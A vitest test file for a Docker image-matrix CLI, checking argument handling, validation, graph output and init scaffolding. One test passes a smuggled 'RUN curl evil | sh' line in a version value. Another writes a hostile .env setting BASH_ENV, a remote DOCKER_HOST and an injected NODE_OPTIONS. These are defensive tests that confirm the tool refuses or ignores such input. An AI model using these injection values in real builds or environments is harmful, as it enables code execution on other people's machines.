import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { execFileSync, spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { nearest, normalizeArgv, withDefaultCommand } from '../../cli/main.ts';
import { jsonSchema } from '../../core/load/schema.ts';
import { loadSpec } from '../../core/load/validate.ts';
import { cli } from '../helpers/cli.ts';
import { REPO, miniSpec, tempDir } from '../helpers/spec.ts';

describe('argv', () => {
  it('accepts the notes\' snake_case flags and create_context', () => {
    expect(normalizeArgv(['generate', 'x', '--target_version', '1.0', '--save_metadata', '--python_version=3.9', '--', '--keep_this'])).toEqual(['generate', 'x', '--target-version', '1.0', '--save-metadata', '--python-version=3.9', '--', '--keep_this']);
    expect(normalizeArgv(['create_context', 'x'])).toEqual(['context', 'x']);
  });

  it('treats a bare target as build, nothing as help, and a typo as a typo', () => {
    const commands = ['build', 'graph', 'generate', 'context', 'create_context'];
    expect(withDefaultCommand(['--target', 'bento-server:cudnn'], commands)).toEqual(['build', '--target', 'bento-server:cudnn']);
    expect(withDefaultCommand(['graph', 'x'], commands)).toEqual(['graph', 'x']);
    expect(withDefaultCommand(['--help'], commands)).toEqual(['--help']);
    expect(withDefaultCommand([], commands)).toEqual(['--help']);
    expect(withDefaultCommand(['--spec-dir', 'x', '--quiet'], commands)).toEqual(['--spec-dir', 'x', '--quiet', '--help']);
    expect(withDefaultCommand(['--spec-dir', 'x', '--all'], commands)).toEqual(['build', '--spec-dir', 'x', '--all']);
    expect(() => withDefaultCommand(['genrate', 'bento-server'], commands)).toThrow('unknown command "genrate" (did you mean generate?)');
    expect(() => withDefaultCommand(['bento-server'], commands)).toThrow(/unknown command "bento-server"; .*`manager build bento-server` builds a package/);
    expect(nearest('Graph', commands)).toBe('graph');
    expect(nearest('xyz', commands)).toBeUndefined();
  });

  it('bare manager prints help and exits 0; a mistyped command exits 2 and builds nothing', () => {
    const bare = cli([]);
    expect(bare.code).toBe(0);
    expect(bare.stdout).toMatch(/^Usage: manager \[options\] \[command\]/);
    const typo = cli(['genrate', 'bento-server']);
    expect(typo.code).toBe(2);
    expect(typo.stderr).toBe('error: unknown command "genrate" (did you mean generate?); `manager --help` lists the commands\n');
    expect(typo.stdout).toBe('');
  });
});

describe('manager CLI', () => {
  it('dry-runs `--target bento-server:cudnn` with no command and no Docker', () => {
    const out = tempDir();
    const r = cli(['--target', 'bento-server:cudnn', '--dry-run', '--output', out], { env: { DOCKER_HOST: 'unix:///nonexistent.sock' } });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^run  build:bento-server\/debian11\/cudnn\/py3\.9\/cuda11\.6\.2\/amd64 /m);
    expect(r.stdout).toMatch(/docker buildx build --progress plain --platform linux\/amd64 .*--build-arg 'BASE_IMAGE=<build:bento-server\/debian11\/runtime\/py3\.9\/amd64 digest>'/);
    expect(r.stdout).not.toMatch(/devel/);
    expect(r.stdout).toMatch(/--label org\.opencontainers\.image\.revision=[0-9a-f]{40} /);
    expect(existsSync(join(out, 'bento-server'))).toBe(false);
  });

  it('refuses command-line values with control characters or that look like options (exit 2, nothing written)', () => {
    const { dir, manifest } = miniSpec();
    const gen = join(dir, 'gen');
    const bad = [
      ['generate', manifest, '--output', gen, '--target-version', '1.0\nRUN curl evil | sh'],
      ['build', manifest, '--all', '--dry-run', '--output', gen, '--staging-repository', '--insecure'],
      ['build', manifest, '--all', '--dry-run', '--output', gen, '--builder', 'x\u001b[31m'],
      ['--credentials-file', '-x', 'authenticate', manifest],
    ];
    for (const args of bad) {
      const r = cli(args);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr).toMatch(/(control characters \(a newline\?\) are not allowed|looks like an option; a value may not start with "-")/);
      expect(r.stderr).not.toContain('\u001b');
    }
    expect(existsSync(gen)).toBe(false);
  });

  it('a hostile .env reaches no child process: BASH_ENV, DOCKER_HOST and NODE_OPTIONS in it are ignored', () => {
    const { dir, manifest } = miniSpec();
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('  hub:\n    kind: dockerhub\n    namespace: acme\n    readme: true\n', '  hub:\n    kind: generic\n    host: 127.0.0.1:9\n    namespace: acme\n    credentials: { username_env: T_USER, password_env: T_PASS }\n'));
    const marker = join(dir, 'bash-env-ran');
    writeFileSync(join(dir, 'evil.sh'), `touch ${marker}\n`);
    writeFileSync(join(dir, '.env'), `T_USER=me\nT_PASS=pw-123456\nBASH_ENV=${join(dir, 'evil.sh')}\nDOCKER_HOST=tcp://203.0.113.1:2375\nNODE_OPTIONS=--require=${join(dir, 'evil.js')}\n`, { mode: 0o600 });
    writeFileSync(join(dir, 'evil.js'), `require('fs').writeFileSync(${JSON.stringify(marker)}, 'node')`);
    const r = cli(['--spec-dir', dir, 'authenticate', manifest]);
    expect(existsSync(marker)).toBe(false);
    expect(r.stderr).toMatch(/warning: ignoring BASH_ENV, DOCKER_HOST, NODE_OPTIONS from .*\.env/);
    // The login itself ran with the .env's credentials (and failed: nothing listens on port 9).
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/login to 127\.0\.0\.1:9 failed/);
    expect(r.stdout + r.stderr).not.toContain('pw-123456');
  });

  it('exits 2 with file:line:column and writes nothing for a bad spec', () => {
    const { dir, manifest } = miniSpec();
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('parent: base', 'parent: bsae'));
    const r = cli(['generate', manifest, '--output', join(dir, 'gen')]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/manifest\.yaml:\d+:13: error: releases\.runtime\.parent: parent release "bsae" does not exist/);
    expect(r.stderr).toMatch(/1 error; nothing was written/);
    expect(existsSync(join(dir, 'gen'))).toBe(false);
  });

  it('annotates spec errors for GitHub Actions', () => {
    const { manifest } = miniSpec();
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('parent: base', 'parent: bsae'));
    const r = cli(['validate', manifest], { env: { GITHUB_ACTIONS: 'true' } });
    expect(r.stderr).toMatch(/^::error file=.*manifest\.yaml,line=\d+,col=13::releases\.runtime\.parent: parent release/m);
  });

  it('exits 2 for usage errors', () => {
    expect(cli(['graph', 'no-such-package']).code).toBe(2);
    expect(cli(['graph', 'bento-server', '--bogus']).code).toBe(2);
    const r = cli(['build', 'bento-server']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/nothing selected/);
  });

  it('generates, then writes nothing on a rerun', () => {
    const out = tempDir();
    const first = cli(['generate', 'bento-server', '--output', out]);
    expect(first.code).toBe(0);
    expect(first.stdout).toMatch(/47 written, 0 unchanged, 0 removed/);
    const again = cli(['generate', 'bento-server', '--output', out, '--json']);
    expect(JSON.parse(again.stdout)).toMatchObject({ written: [], removed: [] });
  });

  it('prints the graph as tree, dot, mermaid and json', () => {
    const tree = cli(['graph', 'python-base']);
    expect(tree.stdout).toMatch(/^python-base 2024\.1: 54 tasks \(6 render, 35 build, 13 manifest\)/);
    expect(cli(['graph', 'python-base', '--format', 'dot']).stdout).toMatch(/^digraph plan \{/);
    expect(cli(['graph', 'python-base', '--format', 'mermaid']).stdout).toMatch(/^graph LR/);
    const json = JSON.parse(cli(['graph', 'python-base', '--format', 'json']).stdout) as { tasks: { id: string; hash: string; deps: string[] }[] };
    expect(json.tasks).toHaveLength(54);
    expect(json.tasks.find((t) => t.id === 'build:python-base/bookworm/build/py3.12/arm64v8')!.deps).toEqual(['render:python-base/bookworm/build', 'build:python-base/bookworm/slim/py3.12/arm64v8']);
  });

  it('explains why a task would rebuild', () => {
    const { dir, manifest } = miniSpec();
    const gen = join(dir, 'gen');
    expect(cli(['generate', manifest, '--output', gen]).code).toBe(0);
    const same = cli(['graph', manifest, '--output', gen, '--explain', 'render:mini/deb/runtime']);
    expect(same.stdout).toMatch(/decision: skip \(files unchanged\)/);
    writeFileSync(join(dir, 'templates/partials/run.eta'), 'RUN echo v2\n');
    const changed = cli(['graph', manifest, '--output', gen, '--explain', 'render:mini/deb/runtime']);
    expect(changed.stdout).toMatch(/decision: run \(inputs changed: template:partials\/run\.eta\)\n\s+changed inputs:\n\s+changed\s+template:partials\/run\.eta/);
    const never = cli(['graph', manifest, '--output', gen, '--explain', 'build:mini/deb/base/py3.10/amd64', '--offline']);
    expect(never.stdout).toMatch(/last run: none recorded here\n\s+decision: run \(no record of an earlier run\)/);
    const json = JSON.parse(cli(['graph', manifest, '--output', gen, '--explain', 'render:mini/deb/runtime', '--json']).stdout) as { decision: { action: string }; changed: { part: string }[] };
    expect(json.decision.action).toBe('run');
    expect(json.changed.map((c) => c.part)).toEqual(['template:partials/run.eta']);
  });

  it('init writes a starter manifest and templates that validate', () => {
    const root = tempDir();
    const r = cli(['--spec-dir', root, 'init', 'widget', '--releases', 'runtime,cudnn(gpu_supported),devel:runtime', '--distros', 'debian12,ubi8']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const loaded = loadSpec(join(root, 'manifests', 'widget.yaml'));
    expect(loaded.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(loaded.spec!.releaseOrder).toEqual(['base', 'runtime', 'cudnn', 'devel']);
    expect(loaded.spec!.releases['devel']!.parent).toBe('runtime');
    expect(loaded.spec!.releases['cudnn']!.axes).toEqual(['cuda']);
    // No axis asked for, so no Python anywhere: not in the manifest, the templates or the output.
    const manifestText = readFileSync(join(root, 'manifests', 'widget.yaml'), 'utf8');
    expect(manifestText).not.toMatch(/python/i);
    expect(cli(['--spec-dir', root, 'generate', 'widget']).code).toBe(0);
    expect(cli(['--spec-dir', root, 'context', 'widget']).code).toBe(0);
    const generated = join(root, 'generated', 'widget');
    expect(readFileSync(join(generated, 'debian12', 'base', 'Dockerfile'), 'utf8')).toMatch(/^ARG BASE_IMAGE=docker\.io\/library\/debian:bookworm-slim\nFROM \$\{BASE_IMAGE\}\n/);
    expect(readFileSync(join(generated, 'README.md'), 'utf8')).not.toMatch(/python/i);
    expect(Object.keys(JSON.parse(readFileSync(join(generated, 'images.json'), 'utf8'))[0].build_args)).toEqual([]);
    expect(cli(['--spec-dir', root, 'init', 'widget', '--releases', 'runtime']).code).toBe(2);
  });

  it('init keeps state, logs, reports and .env out of git, the tree and its record in; a .gitignore of its own is kept', () => {
    const root = tempDir();
    writeFileSync(join(root, '.gitignore'), 'node_modules/');
    expect(cli(['--spec-dir', root, 'init', 'widget', '--releases', 'runtime', '--distros', 'debian12']).code).toBe(0);
    const text = readFileSync(join(root, '.gitignore'), 'utf8');
    expect(text.startsWith('node_modules/\n\n# manager:')).toBe(true);
    expect(readFileSync(join(root, 'manifests', 'widget.yaml'), 'utf8')).toMatch(/^# .*docs\/spec\.md of the\n# image-matrix-manager package/);
    // Run twice: nothing added.
    expect(cli(['--spec-dir', root, 'init', 'widget', '--releases', 'runtime', '--distros', 'debian12', '--force']).code).toBe(0);
    expect(readFileSync(join(root, '.gitignore'), 'utf8')).toBe(text);
    // What git itself makes of it, path by path.
    execFileSync('git', ['init', '-q'], { cwd: root });
    const paths = {
      'generated/widget/.manager/state.json': true,
      'generated/widget/.manager/lock': true,
      'generated/widget/.manager/report.html': true,
      'generated/widget/.logs/build.log': true,
      'generated/widget/.staging-123/x': true,
      'generated/widget/debian12/runtime/.Dockerfile.tmp-12-ab12': true,
      '.env': true,
      'generated/widget/.manager/files.json': false,
      'generated/widget/debian12/runtime/Dockerfile': false,
      'generated/widget/README.md': false,
      'manifests/widget.yaml': false,
    };
    const r = spawnSync('git', ['check-ignore', '--no-index', ...Object.keys(paths)], { cwd: root, encoding: 'utf8' });
    expect(r.stdout.split('\n').filter(Boolean).sort()).toEqual(Object.entries(paths).filter(([, v]) => v).map(([k]) => k).sort());
  });

  it('init takes the family\'s axes: each a build arg, in every tag, declared in the templates', () => {
    const root = tempDir();
    const r = cli(['--spec-dir', root, 'init', 'pgclient', '--releases', 'runtime', '--axis', 'pg=16,17', '--axis', 'python=3.12']);
    expect(r.stderr).toBe('');
    const loaded = loadSpec(join(root, 'manifests', 'pgclient.yaml'));
    expect(loaded.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
    expect(Object.keys(loaded.spec!.axes)).toEqual(['python', 'pg']);
    expect(loaded.spec!.axes['pg']).toMatchObject({ arg: 'PG_VERSION', order: ['16', '17'] });
    expect(loaded.spec!.releases['runtime']!.axes).toEqual(['python', 'pg']);
    expect(cli(['--spec-dir', root, 'generate', 'pgclient']).code).toBe(0);
    expect(cli(['--spec-dir', root, 'context', 'pgclient']).code).toBe(0);
    const images = JSON.parse(readFileSync(join(root, 'generated', 'pgclient', 'images.json'), 'utf8')) as { id: string; tags: string[]; build_args: Record<string, string> }[];
    expect(images.map((i) => i.id)).toContain('manifest:pgclient/debian12/runtime/py3.12/pg17');
    expect(images.find((i) => i.id === 'manifest:pgclient/debian12/runtime/py3.12/pg17')).toMatchObject({ tags: ['0.1.0-python3.12-pg17-debian12-runtime'], build_args: { PYTHON_VERSION: '3.12', PG_VERSION: '17' } });
    const dockerfile = readFileSync(join(root, 'generated', 'pgclient', 'debian12', 'base', 'Dockerfile'), 'utf8');
    expect(dockerfile).toMatch(/^ARG PYTHON_VERSION\nARG PG_VERSION\nARG BASE_IMAGE=docker\.io\/library\/python:\$\{PYTHON_VERSION\}-slim-bookworm\nFROM \$\{BASE_IMAGE\}\nARG PYTHON_VERSION\nARG PG_VERSION\n/);
    expect(cli(['--spec-dir', tempDir(), 'init', 'x', '--releases', 'runtime', '--axis', 'Pg=1']).stderr).toMatch(/bad axis "Pg=1"/);
  });

  it('the committed JSON Schema is current and the examples point at it', () => {
    expect(JSON.parse(readFileSync(join(REPO, 'schema', 'manager.schema.json'), 'utf8'))).toEqual(jsonSchema());
    expect(readFileSync(join(REPO, 'examples', 'bento-server', 'manifest.yaml'), 'utf8')).toMatch(/^# yaml-language-server: \$schema=\.\.\/\.\.\/schema\/manager\.schema\.json$/m);
  });
});
